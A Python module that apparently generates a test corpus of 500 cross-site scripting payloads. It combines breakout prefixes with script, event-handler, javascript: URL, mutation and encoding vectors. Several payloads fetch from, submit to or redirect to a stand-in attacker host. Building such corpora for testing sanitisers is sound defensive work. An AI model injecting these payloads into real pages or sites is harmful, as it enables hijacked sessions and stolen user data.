"""Five hundred texts that would act in a page if one of them were ever taken for markup."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import islice, product

_ACTS = (
    "alert(1)",
    "alert`1`",
    "fetch('//evil.example.com')",
    "document.forms[0].submit()",
    "location='//evil.example.com'",
)
_ELEMENTS = (
    "<script>{}</script>",
    "<ScRiPt >{}</sCrIpT>",
    "<script src=//evil.example.com/{}></script>",
    "<img src=x onerror={}>",
    '<img src="x" onerror="{}">',
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={}>",
    "<body onload={}>",
    "<iframe srcdoc='<script>{}</script>'>",
    "<iframe src=javascript:{}>",
    "<a href=javascript:{}>x</a>",
    "<a href='data:text/html,<script>{}</script>'>x</a>",
    "<form action=//evil.example.com><button autofocus onfocus={}>x</form>",
    "<button form=yes-1 formaction=//evil.example.com/{}>x</button>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}>",
    "<style>@import '//evil.example.com/{}';</style>",
    "<link rel=stylesheet href=//evil.example.com/{}>",
    "<base href=//evil.example.com/{}>",
    "<meta http-equiv=refresh content='0;url=//evil.example.com/{}'>",
    "<object data=javascript:{}>",
    "<embed src=javascript:{}>",
    "<template><script>{}</script></template>",
    "<noscript><img src=x onerror={}></noscript>",
    "<video><source onerror={}></video>",
    "<p style=animation-name:x onanimationstart={}>",
    "{{{{ {} }}}}",
    "{{% {} %}}",
    "&lt;script&gt;{}&lt;/script&gt;",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "＜script＞{}＜/script＞",  # noqa: RUF001 - full width, on purpose
)
_WAYS_OUT = (
    "{}",
    '"{}',
    "'{}",
    '">{}',
    "</textarea>{}",
    "</title>{}",
    "--><!--{}",
    "]]>{}",
    "\n{}",
)


def texts(count: int = 500) -> Iterator[str]:
    """So many of them, each element first in its plainest form."""
    made = (
        way.format(element.format(act))
        for way, act, element in product(_WAYS_OUT, _ACTS, _ELEMENTS)
    )
    return islice(made, count)
